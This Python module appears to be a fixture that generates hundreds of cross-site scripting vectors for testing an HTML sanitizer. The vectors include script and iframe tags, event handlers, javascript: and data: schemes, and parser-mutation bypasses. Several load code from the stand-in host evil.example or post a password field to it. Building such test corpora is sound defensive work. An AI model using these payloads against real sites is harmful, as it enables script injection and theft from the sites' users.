"""Hundreds of ways to get script into a page, made of parts: what runs, how it is written, what it hides in.

All of them call `alert(1)` or load from ``evil.example``; both are looked for afterwards.
"""

# ruff: noqa: E501 -- the lines are data
from __future__ import annotations

from collections.abc import Iterator

TAGS = (
    "<script>{}</script>", "<script src=//evil.example/x.js></script>", "<script/x>{}</script >", "<scr\x00ipt>{}</scr\x00ipt>",
    "<script>{}", "<SCRIPT SRC='//evil.example/x'", "<iframe src='javascript:{}'></iframe>", "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'>", "<object data='javascript:{}'></object>", "<object data='//evil.example/x.swf'>",
    "<embed src='//evil.example/x.swf'>", "<applet code=x.class archive=//evil.example/x.jar></applet>", "<frameset onload={}><frame src=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<meta http-equiv=Set-Cookie content=a=b>", "<base href='//evil.example/'>", "<base href='javascript:{}//'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example>", "<link rel=prefetch href=//evil.example>", "<form action='javascript:{}'><input type=submit></form>",
    "<form action=//evil.example><input name=password><button>ok</button></form>", "<button formaction='javascript:{}'>x</button>", "<isindex action='javascript:{}' type=image>",
    "<input type=image src=//evil.example/x onerror={}>", "<style>@import '//evil.example/x.css';</style>", "<style>*{{background:url('javascript:{}')}}</style>",
    "<style><!--</style><script>{}</script>", "<template><script>{}</script></template>", "<template shadowroot=open><script>{}</script></template>", "<plaintext><script>{}</script>",
    "<xmp><script>{}</script></xmp>", "<listing><script>{}</script></listing>", "<noembed><script>{}</script></noembed>", "<noframes><script>{}</script></noframes>",
    "<noscript><script>{}</script></noscript>", "<textarea><script>{}</script></textarea>", "<title><script>{}</script></title>", "<marquee onstart={}>x</marquee>",
    "<details open ontoggle={}><summary>x</summary></details>", "<video><source onerror={}></video>", "<video poster='javascript:{}'></video>", "<audio src=x onerror={}>",
    "<body onload={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg><script href='data:,{}'/></svg>", "<svg><a xlink:href='javascript:{}'><text y=1em>x</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><set attributeName=href to='javascript:{}'/></svg>", "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<svg><foreignObject><body onload={}></foreignObject></svg>", "<svg><image href=//evil.example/x.png /></svg>", "<math><mtext><script>{}</script></mtext></math>",
    "<math href='javascript:{}'>x</math>", "<math><maction actiontype=statusline xlink:href='javascript:{}'>x</maction></math>", "<dialog open onfocus={}>x</dialog>",
    "<keygen autofocus onfocus={}>", "<bgsound src='javascript:{}'>", "<layer src=//evil.example></layer>", "<portal src=//evil.example></portal>", "<xml id=x><x><script>{}</script></x></xml>",
    "<x-element onclick={}>x</x-element>", "<?xml-stylesheet href='javascript:{}'?>", "<!--[if IE]><script>{}</script><![endif]-->", "<![CDATA[<script>{}</script>]]>", "<!ENTITY x SYSTEM '//evil.example'>",
)  # fmt: skip
"""Elements that do harm by themselves."""

EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerrawupdate", "onbeforescriptexecute",
    "OnErRoR", "on\u0131nput", "onerror\x0c", "onerror/", "x onerror",
)  # fmt: skip
CARRIERS = (
    "<img src=x {}>",
    "<p {}>x</p>",
    "<a href=https://a.example {}>x</a>",
    "<td {}>x</td>",
    "<b {}>x</b>",
    "<li {}>x</li>",
)
VALUES = ("=alert(1)", "='alert(1)'", '\t=\n"alert(1)"', "=`alert(1)`", "=&#97;lert(1)", "=alert(1)//")

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java&#9;script:alert(1)", "java&#x0A;script:alert(1)", "&#106;avascript:alert(1)", "&#x6a;&#x61;vascript&colon;alert(1)", "javascript&#58;alert(1)",
    "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "javascript:%61lert(1)", "javascript://a.example/%0aalert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:https://a.example/1",
    "ms-msdt:/id PCWDiagnostic", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:https://evil.example!/x", "mocha:alert(1)", "livescript:alert(1)",
    "file:///etc/passwd", "intent://evil.example#Intent;end", "search-ms:query=x", "chrome://settings", "java\u200bscript:alert(1)", "\u202ejavascript:alert(1)",
    "&#0000106avascript:alert(1)", "x:alert(1)", "javascript\x00:alert(1)", "ws://evil.example", "about:blank", "tel:alert(1)", "\\\\evil.example\\x:alert(1)@",
)  # fmt: skip
TARGETS = (
    '<a href="{}">x</a>', "<a href='{}'>x</a>", "<a href={}>x</a>", '<blockquote cite="{}">x</blockquote>', '<img src="{}">', '<img srcset="{} 1x">',
    '<a xlink:href="{}" href=#>x</a>', '<table background="{}"><tr><td>x</td></tr></table>', '<area href="{}">', '<b style="background:url({})">x</b>',
    '<q cite="{}">x</q>', '<a ping="{}" href="https://a.example/">x</a>',
)  # fmt: skip

MUTATIONS = (
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<p id=\"</title><script>alert(1)</script>\">", "<b title='\"><script>alert(1)</script>'>x</b>", "<a href=\"https://a.example/&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
    "<a href='https://a.example/\" onclick=\"alert(1)'>x</a>", "<a href=\"https://a.example/`onclick=alert(1)`\">x</a>", "<p title=\"-->\"><!-- <p title=\"--><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>", "<!--!><img src=x onerror=alert(1)>", "<!-- --!><img src=x onerror=alert(1)> -->", "<!---><img src=x onerror=alert(1)>-->", "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]>", "<?<img src=x onerror=alert(1)>?>", "<//img src=x onerror=alert(1)>", "</br/onmouseover=alert(1)>", "<<script>alert(1)//<</script>",
    "<img \"\"\"><script>alert(1)</script>\">", "<img src=x:alert(alt) onerror=eval(src) alt=alert(1)>", "<a <img src=x onerror=alert(1)>>x</a>", "<p<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)",
    "<a href=https://a.example><a href=javascript:alert(1)>x</a></a>", "<table><a href=javascript:alert(1)><tr><td>x</table>", "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<textarea></textarea ><img src=x onerror=alert(1)>", "<title></title/><img src=x onerror=alert(1)>", "<style></style\n><img src=x onerror=alert(1)>", "<xmp></xmp><img src=x onerror=alert(1)>",
    "<iframe></iframe\t><img src=x onerror=alert(1)>", "<script></script/x><img src=x onerror=alert(1)>", "<svg><desc><table><svg><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">", "<math><p></p><mi><style></math><img src onerror=alert(1)>", "<template><style></template><img src=x onerror=alert(1)></style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>", "<code>&lt;img src=x onerror=alert(1)&gt;</code>", "<p>{{constructor.constructor('alert(1)')()}}</p>", "<b\x0bonclick=alert(1)>x</b>", "<\x00img src=x onerror=alert(1)>",
    "<abbr title='<img src=x onerror=alert(1)>'>x</abbr>", "<td colspan='1\" onclick=\"alert(1)'>x</td>", "<time datetime='<script>alert(1)</script>'>x</time>", "<time datetime='&lt;script&gt;alert(1)&lt;/script&gt;'></time>",
    "<figure><img alt='<script>alert(1)</script>' src='/x.jpg'><figcaption>&lt;script&gt;alert(1)&lt;/script&gt;</figcaption></figure>", "<h1>&lt;script&gt;alert(1)&lt;/script&gt;</h1>", "<p>--&gt;&lt;script&gt;alert(1)&lt;/script&gt;</p>",
)  # fmt: skip
"""Markup that means one thing to one parser and another to the next, and text that is markup when it is unescaped once too often."""


def vectors() -> Iterator[str]:
    """All of them, each once."""
    yield from dict.fromkeys((*_elements(), *_handlers(), *_addresses(), *MUTATIONS))


def _elements() -> Iterator[str]:
    for tag in TAGS:
        yield tag.replace("{{", "{").replace("}}", "}").replace("{}", "alert(1)")


def _handlers() -> Iterator[str]:
    """Every event in every carrier, the ways of writing the value taking turns."""
    for number, event in enumerate(EVENTS):
        for other, carrier in enumerate(CARRIERS):
            yield carrier.format(event + VALUES[(number + other) % len(VALUES)])


def _addresses() -> Iterator[str]:
    """Every scheme in the plain link, and in three of the other places, which take turns."""
    for number, scheme in enumerate(SCHEMES):
        for target in {TARGETS[0], *(TARGETS[(number * 3 + step) % len(TARGETS)] for step in range(3))}:
            yield target.format(scheme)
